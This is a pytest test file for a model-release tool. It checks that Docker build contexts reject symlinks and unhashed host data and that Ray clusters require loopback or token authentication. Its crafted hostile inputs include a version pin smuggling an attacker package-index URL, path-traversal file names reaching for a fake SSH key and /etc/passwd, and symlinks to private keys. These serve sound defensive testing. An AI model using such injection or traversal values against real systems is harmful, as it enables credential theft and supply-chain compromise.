"""Trust, part 2: what a release can put into a Docker image (its files only: no link followed, no host
data unless bound by hash, no version pins of its own), and what a Ray cluster is trusted with (no
non-loopback cluster without token authentication; a worker's file names stay inside the work directory).

Every input here is crafted in the test. Nothing is sent to a non-loopback address: the cluster tests run
under an audit hook that stops any socket lookup or connect to one before it happens."""

from __future__ import annotations

import contextlib
import ipaddress
import json
import os
import shutil
import sys
from pathlib import Path

import pytest

from edgepipe.errors import ClusterError, ConfigError

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- edgepipe-test-secret-5f1c9a -----END OPENSSH PRIVATE KEY-----\n"


@pytest.fixture(scope="module")
def release_src(tmp_path_factory):
    """The example built (no bench) for cpu-int8: a genuine release directory to craft copies of."""
    from edgepipe import api

    out = tmp_path_factory.mktemp("trust-ship-release")
    api.build(None, ["cpu-int8"], out=out, bench=False)
    return out / "cpu-int8"


@pytest.fixture
def release(release_src, tmp_path):
    """A fresh copy of the release, to be crafted by the test."""
    rel = tmp_path / "rel" / "cpu-int8"
    shutil.copytree(release_src, rel)
    return rel


@pytest.fixture
def secret_home(tmp_path):
    """A fake ~/.ssh holding a private key, outside the release."""
    ssh = tmp_path / "home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_bytes(SECRET)
    return ssh


def _edit_manifest(release: Path, edit) -> None:
    mf = release / "manifest.json"
    m = json.loads(mf.read_text())
    edit(m)
    mf.write_text(json.dumps(m, indent=2) + "\n")


def _files_holding(root: Path, needle: bytes, skip: Path | None = None) -> list[Path]:
    """Every regular file under ``root`` (links not followed, ``skip`` left out) whose bytes hold ``needle``."""
    found = []
    for dirpath, _, filenames in os.walk(root):
        for n in filenames:
            p = Path(dirpath) / n
            if p.is_symlink() or not p.is_file() or (skip and p.is_relative_to(skip)):
                continue
            if needle in p.read_bytes():
                found.append(p)
    return found


# ---------------------------------------------------------------------------------------------------------
# Item 6: Docker contexts


@pytest.mark.parametrize("kind", ["link-to-ssh-dir", "link-to-key-file", "nested-link", "fifo"])
def test_a_release_holding_a_link_or_special_file_is_refused_and_copies_no_secret(release, secret_home,
                                                                                   tmp_path, kind):
    from edgepipe import api

    if kind == "link-to-ssh-dir":
        entry = "keys"
        (release / entry).symlink_to(secret_home, target_is_directory=True)
    elif kind == "link-to-key-file":
        entry = "id_ed25519"
        (release / entry).symlink_to(secret_home / "id_ed25519")
    elif kind == "nested-link":
        entry = "extra/deeper/ssh"
        (release / "extra" / "deeper").mkdir(parents=True)
        (release / entry).symlink_to(secret_home, target_is_directory=True)
    else:
        entry = "pipe"
        os.mkfifo(release / entry)
    out = tmp_path / "contexts"
    with pytest.raises(ConfigError) as e:
        api.docker_context(release, "linux/amd64", out / "ctx")
    msg = str(e.value)
    assert "\n" not in msg and repr(entry) in msg, msg
    assert ("symlink" in msg) if kind != "fifo" else ("FIFO" in msg)
    assert not (out / "ctx").exists()
    assert _files_holding(tmp_path, SECRET, skip=secret_home) == []  # no copy of the key anywhere


def test_the_cli_refuses_a_linked_release_in_one_line(release, secret_home, tmp_path, cli_error):
    (release / "keys").symlink_to(secret_home, target_is_directory=True)
    line = cli_error("docker", "build", str(release), "--platform", "linux/amd64", "--tag", "x:1",
                     "--context", str(tmp_path / "ctx"))
    assert "'keys' is a symlink" in line and str(secret_home) in line, line
    assert not (tmp_path / "ctx").exists()
    assert _files_holding(tmp_path, SECRET, skip=secret_home) == []


def test_a_manifest_naming_host_data_without_its_hash_bundles_nothing(release, tmp_path):
    """``inputs.data.name`` pointing at a dataset of this machine: without a sha256 it is refused (today it
    was loaded and written into the image as eval.npz); with a sha256 that is not that data's, too."""
    import numpy as np

    from edgepipe import api

    private = tmp_path / "private" / "patients.npz"
    private.parent.mkdir()
    x = np.full((64, 1, 32, 32), 0.123, np.float32)
    np.savez(private, x=x, y=np.arange(64) % 10)

    def point_at_private(sha256):
        def edit(m):
            m["inputs"]["data"] = {"name": str(private), **({"sha256": sha256} if sha256 else {})}
        return edit

    _edit_manifest(release, point_at_private(None))
    with pytest.raises(ConfigError) as e:
        api.docker_context(release, "linux/amd64", tmp_path / "ctx")
    msg = str(e.value)
    assert "\n" not in msg and "records no sha256" in msg and str(private) in msg, msg
    assert not (tmp_path / "ctx").exists()

    _edit_manifest(release, point_at_private("0" * 64))
    with pytest.raises(ConfigError, match="sha256 differs"):
        api.docker_context(release, "linux/amd64", tmp_path / "ctx")
    assert not (tmp_path / "ctx").exists()
    # --verify on this machine reads the same split: refused the same way
    from edgepipe.ship import verify

    _edit_manifest(release, point_at_private(None))
    with pytest.raises(ConfigError, match="records no sha256"):
        verify.eval_split(release)


def test_a_manifests_tools_do_not_choose_the_images_versions(release, tmp_path):
    """A crafted manifest asks for an old onnxruntime and a pin with an index of its own: the image pins
    what this machine runs, and nothing of the manifest's text reaches the context."""
    from edgepipe import api
    from edgepipe.ship.context import requirements
    from edgepipe.types import Manifest
    from edgepipe.versions import tool_versions

    hostile = {"onnxruntime": "1.20.0", "numpy": "1.26.0 --extra-index-url=http://attacker.invalid/simple"}
    _edit_manifest(release, lambda m: m["tools"].update(hostile))
    here = tool_versions()
    reqs = requirements(Manifest.read(release / "manifest.json"), "onnxruntime")
    assert reqs == {"numpy": here["numpy"], "onnxruntime": here["onnxruntime"]}

    ctx = api.docker_context(release, "linux/amd64", tmp_path / "ctx")
    d = ctx.directory
    lock = (d / "requirements.lock").read_text()
    assert f"onnxruntime=={here['onnxruntime']} --hash=sha256:" in lock and f"numpy=={here['numpy']} " in lock
    for f in ("requirements.lock", "wheels.lock.json", "context.json", "Dockerfile"):
        text = (d / f).read_text()
        assert "1.20.0" not in text and "attacker" not in text and "1.26.0" not in text, f


def test_a_genuine_release_is_copied_whole_and_byte_for_byte(release, tmp_path):
    """The copy that follows nothing still takes every file (and sub-directory) of a plain release."""
    from edgepipe.ship.context import copy_release

    (release / "notes").mkdir()
    (release / "notes" / "readme.txt").write_text("kept\n")
    names = copy_release(release, tmp_path / "copy")
    want = sorted(p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file())
    assert sorted(names) == want
    for n in want:
        assert (tmp_path / "copy" / n).read_bytes() == (release / n).read_bytes()


# ---------------------------------------------------------------------------------------------------------
# Item 7: Ray


class _Blocked(Exception):
    """A lookup of, or connection to, a non-loopback address was about to happen (and did not)."""


_GUARD = {"armed": False, "blocked": []}


def _audit(event: str, args: tuple) -> None:
    if not _GUARD["armed"]:
        return
    host = None
    if event == "socket.connect" and isinstance(args[1], tuple) and args[1]:
        host = args[1][0]
    elif event == "socket.getaddrinfo" and args:
        host = args[0]
    if host is None:
        return
    h = host.decode() if isinstance(host, bytes) else str(host)
    with contextlib.suppress(ValueError):
        if ipaddress.ip_address(h.split("%")[0]).is_loopback:
            return
    if h.lower() in ("localhost", ""):
        return
    _GUARD["blocked"].append((event, h))
    raise _Blocked(f"{event} to {h}")


@pytest.fixture
def no_remote_traffic():
    """Any socket lookup or connect to a non-loopback host raises :class:`_Blocked` before it happens."""
    if not _GUARD.get("installed"):
        sys.addaudithook(_audit)  # audit hooks cannot be removed: it stays disarmed outside these tests
        _GUARD["installed"] = True
    _GUARD["armed"], _GUARD["blocked"] = True, []
    try:
        yield _GUARD["blocked"]
    finally:
        _GUARD["armed"] = False


@pytest.fixture
def no_ray_token(monkeypatch, tmp_path):
    """No Ray token authentication in this process (and a HOME without ~/.ray/auth_token)."""
    for v in ("RAY_AUTH_MODE", "RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH", "RAY_ADDRESS"):
        monkeypatch.delenv(v, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "empty-home"))


def test_cluster_at_a_remote_address_is_refused_before_any_connection(no_ray_token, no_remote_traffic, tmp_path,
                                                                       cli_error):
    pytest.importorskip("ray")
    out = tmp_path / "out"
    line = cli_error("release", "--targets", "cpu-int8", "--out", str(out), "--cluster", "10.1.2.3:6379")
    assert "10.1.2.3" in line and "not a loopback address" in line, line
    assert "RAY_AUTH_MODE=token" in line and "--insecure-cluster" in line, line
    assert no_remote_traffic == [] and not out.exists()
    from edgepipe import api

    with pytest.raises(ClusterError, match="not a loopback address"):
        api.release(None, ["cpu-int8"], out=out, cluster="10.1.2.3:6379")
    assert no_remote_traffic == [] and not out.exists()


def test_cluster_auto_resolving_to_a_remote_address_is_the_same_rule(no_ray_token, no_remote_traffic,
                                                                     monkeypatch):
    pytest.importorskip("ray")
    from edgepipe.pipeline.executors import RayExecutor

    monkeypatch.setenv("RAY_ADDRESS", "10.1.2.3:6379")  # what `auto` finds first, as Ray reads it
    with pytest.raises(ClusterError) as e:
        RayExecutor("auto")
    assert "found by --cluster auto" in str(e.value) and "10.1.2.3:6379" in str(e.value)
    assert no_remote_traffic == []


def test_insecure_cluster_gets_past_the_check_and_nothing_else_changes(no_ray_token, no_remote_traffic, tmp_path):
    """With --insecure-cluster (api: insecure_cluster=True) the release goes on to its next step, the
    reachability probe, which the audit hook stops before any packet: proof the flag was threaded through."""
    pytest.importorskip("ray")
    from edgepipe import api
    from edgepipe.cli import main

    with pytest.raises(_Blocked):
        api.release(None, ["cpu-int8"], out=tmp_path / "out", cluster="10.1.2.3:6379", insecure_cluster=True)
    with pytest.raises(_Blocked):
        main(["release", "--targets", "cpu-int8", "--out", str(tmp_path / "out"), "--cluster", "10.1.2.3:6379",
              "--insecure-cluster"])
    assert [h for _, h in no_remote_traffic] == ["10.1.2.3", "10.1.2.3"]  # stopped, never sent
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("address", ["127.0.0.1:6379", "127.8.9.10:6379", "localhost:6379", "LOCALHOST:1",
                                     "[::1]:6379", "ray://127.0.0.1:10001", "::1", "[::ffff:127.0.0.1]:6379"])
def test_loopback_clusters_stay_allowed(no_ray_token, address):
    from edgepipe.pipeline.executors import check_cluster_trust

    assert check_cluster_trust(address, address) == "loopback"


@pytest.mark.parametrize("address", ["10.1.2.3:6379", "0.0.0.0:6379", "[2001:db8::1]:6379", "ray://10.1.2.3:10001",
                                     "head-node:6379", "127.0.0.1.nip.io:6379", "[::ffff:10.0.0.1]:6379"])
def test_non_loopback_clusters_need_a_token_or_insecure(no_ray_token, monkeypatch, tmp_path, address):
    from edgepipe.pipeline.executors import check_cluster_trust

    with pytest.raises(ClusterError) as e:
        check_cluster_trust(address, address)
    assert "\n" not in str(e.value) and "--insecure-cluster" in str(e.value)
    assert check_cluster_trust(address, address, insecure=True) == "insecure"
    # a token without RAY_AUTH_MODE=token is not used by Ray for a given address: still refused
    monkeypatch.setenv("RAY_AUTH_TOKEN", "f" * 64)
    with pytest.raises(ClusterError):
        check_cluster_trust(address, address)
    monkeypatch.setenv("RAY_AUTH_MODE", "token")
    assert check_cluster_trust(address, address) == "RAY_AUTH_TOKEN"


def test_token_authentication_is_found_where_ray_looks(no_ray_token, monkeypatch, tmp_path):
    from edgepipe.pipeline.executors import check_cluster_trust

    addr = "10.1.2.3:6379"
    monkeypatch.setenv("RAY_AUTH_MODE", "token")
    with pytest.raises(ClusterError, match="RAY_AUTH_MODE=token is set but no token was found"):
        check_cluster_trust(addr, addr)
    home_token = tmp_path / "empty-home" / ".ray" / "auth_token"
    home_token.parent.mkdir(parents=True)
    home_token.write_text("a" * 64)
    assert check_cluster_trust(addr, addr) == str(home_token)
    named = tmp_path / "token"
    named.write_text("b" * 64)
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(named))
    assert check_cluster_trust(addr, addr) == str(named)
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(tmp_path / "absent"))
    with pytest.raises(ClusterError, match="RAY_AUTH_TOKEN_PATH="):
        check_cluster_trust(addr, addr)


def _crafted_result(release_src: Path, art_files: list[str], onnx: str = "source.onnx"):
    """A worker's reply as the driver receives it: a CandidateResult whose paths are relative."""
    from edgepipe.config import load_target
    from edgepipe.pipeline.candidate import CandidateResult
    from edgepipe.types import Artifact, Manifest, OnnxModel

    art = Artifact("onnxruntime", "int8", Path(art_files[0]), [Path(f) for f in art_files])
    return CandidateResult(load_target("cpu-int8"), Manifest.read(release_src / "manifest.json"), art,
                           OnnxModel(Path(onnx), "input", (1, 1, 32, 32), "0" * 64), None)  # type: ignore[arg-type]


@pytest.mark.parametrize("bad", ["../../escaped.txt", "ok/../../../escaped.txt", "ABSOLUTE", "", "a//b", ".",
                                 "./model.onnx", "a\\..\\..\\escaped.txt", "nul\x00byte", "dir/"])
def test_unpack_refuses_a_worker_file_name_that_is_not_plain(release_src, tmp_path, bad):
    from edgepipe.pipeline.executors.task import _unpack
    from edgepipe.pipeline.options import BuildOptions

    work = tmp_path / "a" / "b" / "work"
    escaped = tmp_path / "a" / "escaped.txt"
    absolute = tmp_path / "absolute-escape.txt"
    name = str(absolute) if bad == "ABSOLUTE" else bad
    files = {"model.onnx": b"fine", "source.onnx": b"fine", name: b"WRITTEN-BY-A-HOSTILE-WORKER"}
    res = _crafted_result(release_src, ["model.onnx"])
    with pytest.raises(ClusterError) as e:
        _unpack(res, files, work, BuildOptions(), who="the worker on 'evil' for candidate 3")
    msg = str(e.value)
    assert "\n" not in msg and "the worker on 'evil' for candidate 3" in msg and repr(name) in msg, msg
    assert not escaped.exists() and not absolute.exists()
    assert _files_holding(tmp_path, b"WRITTEN-BY-A-HOSTILE-WORKER") == []
    assert not work.exists() or not any(work.rglob("*"))  # nothing written, the good names neither


def test_unpack_refuses_result_paths_that_point_outside_what_was_sent(release_src, secret_home, tmp_path):
    """The result's artifact paths decide what the driver copies into the release: a worker naming the
    driver's key there (by an absolute path, or by climbing out) is refused."""
    from edgepipe.pipeline.executors.task import _unpack
    from edgepipe.pipeline.options import BuildOptions

    work = tmp_path / "work"
    files = {"model.onnx": b"fine", "source.onnx": b"fine"}
    for art_files in (["model.onnx", str(secret_home / "id_ed25519")],
                      ["model.onnx", "../home/.ssh/id_ed25519"], ["model.onnx", "not-sent.bin"]):
        with pytest.raises(ClusterError) as e:
            _unpack(_crafted_result(release_src, art_files), files, work, BuildOptions(), who="worker w")
        assert "\n" not in str(e.value) and "worker w" in str(e.value)
    with pytest.raises(ClusterError):
        _unpack(_crafted_result(release_src, ["model.onnx"], onnx="/etc/passwd"), files, work, BuildOptions())


def test_unpack_writes_plain_names_inside_the_work_directory(release_src, tmp_path):
    from edgepipe.pipeline.executors.task import _unpack
    from edgepipe.pipeline.options import BuildOptions

    work = tmp_path / "work"
    files = {"model.onnx": b"m", "source.onnx": b"s", "ov/model.xml": b"x", "ov/model.bin": b"b"}
    res = _unpack(_crafted_result(release_src, ["model.onnx", "ov"]), files, work, BuildOptions())
    assert sorted(p.relative_to(work).as_posix() for p in work.rglob("*") if p.is_file()) == sorted(files)
    assert res.artifact.path == work / "model.onnx" and res.artifact.files == [work / "model.onnx", work / "ov"]
    assert res.onnx.path == work / "source.onnx" and res.calibration is not None


@pytest.mark.parametrize("reply", ["a dict", "no result"])
def test_a_worker_reply_that_is_not_edgepipes_is_refused_and_writes_nothing(tmp_path, reply):
    """The driver unpickles what a worker returns: anything but a Reply with a result or an error is refused
    before a file is written (a forged dict in the old shape, a Reply naming nothing)."""
    from edgepipe.config import load_target
    from edgepipe.pipeline.executors import Job
    from edgepipe.pipeline.executors.task import Reply, job_result

    work = tmp_path / "work"
    job = Job(load_target("cpu-int8"), None, {"id": "c00"}, work)
    r = ({"result": None, "files": {"model.onnx": b"x"}, "node": "n", "host": "h"} if reply == "a dict"
         else Reply("n", "evil-host", files={"model.onnx": b"x"}))
    with pytest.raises(ClusterError) as e:
        job_result(r, job, None)  # type: ignore[arg-type]  # refused before the session is used
    assert "\n" not in str(e.value) and "nothing was written" in str(e.value)
    assert not work.exists()


def test_a_manifest_whose_target_was_edited_after_the_build_is_refused(release):
    """The target a release records carries its sha256: settings changed by hand no longer match it."""
    from edgepipe.types import Manifest

    mf = release / "manifest.json"
    d = json.loads(mf.read_text())
    assert Manifest.read(mf).target.sha256 == d["target"]["sha256"]
    d["target"]["budgets"] = {**d["target"].get("budgets", {}), "max_accuracy_drop": 99.0}
    mf.write_text(json.dumps(d))
    with pytest.raises(ConfigError, match=r"edited after the build") as e:
        Manifest.read(mf)
    assert str(mf) in str(e.value) and "\n" not in str(e.value)
